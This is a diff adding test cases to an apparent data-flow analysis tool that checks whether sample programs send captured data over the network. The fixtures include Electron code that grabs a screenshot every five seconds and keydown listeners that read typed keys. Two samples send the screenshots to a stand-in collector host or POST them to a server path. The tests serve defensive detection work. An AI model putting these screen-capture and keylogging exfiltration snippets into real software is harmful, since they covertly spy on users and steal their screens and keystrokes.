@@ -176,3 +176,28 @@ describe('what is typed into one field is logged', () => {
     ],
   ])('%s', async (_, program, ...sinks) => expect(await sinksOf(program)).toEqual(sinks));
 });
+
+describe('an address that holds what it shows', () => {
+  const pixels = (use: string): string => `import { desktopCapturer } from 'electron';
+    const pixel = new Image();
+    async function look() {
+      const [screen] = await desktopCapturer.getSources({ types: ['screen'] });
+      const picture = screen.thumbnail.toDataURL();
+      ${use}
+    }
+    setInterval(look, 5000);`;
+  const typed = (use: string): string =>
+    `const pixel = new Image();\ndocument.addEventListener('keydown', (event) => { ${use} });`;
+
+  it.each<Case>([
+    ['asks nobody', pixels('pixel.src = picture;')],
+    ['asks nobody, spelt out', pixels('pixel.src = `data:image/png;base64,${picture}`;')],
+    ['asks nobody when it is read', pixels('const blob = await (await fetch(picture)).blob();')],
+    ['is no part of another', pixels('pixel.src = `https://collector.example.invalid?${picture}`;'), 'network a.ts:6'],
+    ['is no body', pixels(`await fetch('/screens', { method: 'POST', body: picture });`), 'network a.ts:6'],
+    ['asks nobody for a text', typed("pixel.src = 'data:text/plain,' + event.key;")],
+    ['asks for a text that is the address', typed('pixel.src = event.key;'), 'network a.ts:2'],
+  ])('%s', async (_, program, ...sinks) => {
+    expect(await sinksOf(program)).toEqual(sinks);
+  });
+});
